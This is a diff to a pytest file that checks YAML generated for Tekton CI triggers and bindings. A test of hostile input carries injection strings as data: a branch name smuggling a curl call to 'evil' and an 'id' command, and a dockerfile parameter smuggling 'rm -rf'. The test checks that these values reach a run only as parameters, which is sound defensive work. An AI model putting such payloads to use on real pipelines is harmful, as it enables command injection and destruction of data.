@@ -48,6 +48,16 @@ def test_examples_render_deterministically_and_match_golden(example: str) -> Non
     assert_golden(GOLDEN / f"tekton-{example}.yaml", first)
 
 
+@pytest.mark.parametrize("example", ["gointern-backend", "astrago"])
+def test_emitted_stream_reads_back_as_the_objects_in_yaml_11_and_12(example: str) -> None:
+    from ruamel.yaml import YAML
+
+    objects = objects_of(example)
+    text = to_yaml_stream(objects)
+    assert list(yaml.safe_load_all(text)) == objects
+    assert list(YAML(typ="safe", pure=True).load_all(text)) == objects
+
+
 def test_disabled_module_renders_nothing() -> None:
     text = to_yaml_stream(objects_of("gointern-backend"))
     names = [o["metadata"]["name"] for o in objects_of("gointern-backend")]
@@ -65,8 +75,7 @@ def test_changing_one_module_changes_only_its_objects(example_copy) -> None:
     changed = {key for key in before if before[key] != after[key]}
     assert changed == {
         ("ConfigMap", "gointern-backend-spec"),  # the spec itself, which runs tag and bump by
-        ("Trigger", "gointern-backend-portal-dev-push"),
-        ("Trigger", "gointern-backend-portal-dev-pr"),
+        ("TriggerBinding", "gointern-backend-portal"),  # the module's build settings
     }
 
 
@@ -118,10 +127,10 @@ def test_every_image_is_pinned_by_digest() -> None:
                 image = step["image"]
                 assert image == "$(params.prebuild-image)" or re.fullmatch(
                     r"[^\s@]+@sha256:[0-9a-f]{64}", image), image
-        for trigger in by_kind(objects_of(example), "Trigger"):
-            for binding in trigger["spec"]["bindings"]:
-                if binding.get("name") == "prebuild-image":
-                    assert "@sha256:" in binding["value"]
+        for binding in by_kind(objects_of(example), "TriggerBinding"):
+            for param in binding["spec"]["params"]:
+                if param["name"] == "prebuild-image":
+                    assert "@sha256:" in param["value"]
 
 
 # --- validation with schemas no one here wrote -------------------------------------------
@@ -279,6 +288,10 @@ def test_hostile_branch_reaches_the_run_only_as_a_parameter(example_copy) -> Non
               if t["metadata"]["name"] == "gointern-backend-portal-dev-push"]
     values = {b["name"]: b["value"] for b in push["spec"]["bindings"] if "name" in b}
     assert values["branch"] == "dev;$(curl${IFS}evil)`id`'"
+    [settings] = [b for b in by_kind(objects, "TriggerBinding")
+                  if b["metadata"]["name"] == "gointern-backend-portal"]
+    assert {"name": "dockerfile", "value": "docker;rm${IFS}-rf/Dockerfile"} in \
+        settings["spec"]["params"]
     cel = push["spec"]["interceptors"][1]["params"][0]["value"]
     assert _evaluate(cel, _push_payload(ref="refs/heads/dev;$(curl${IFS}evil)`id`'"), "push")
     assert not _evaluate(cel, _push_payload(ref="refs/heads/dev"), "push")
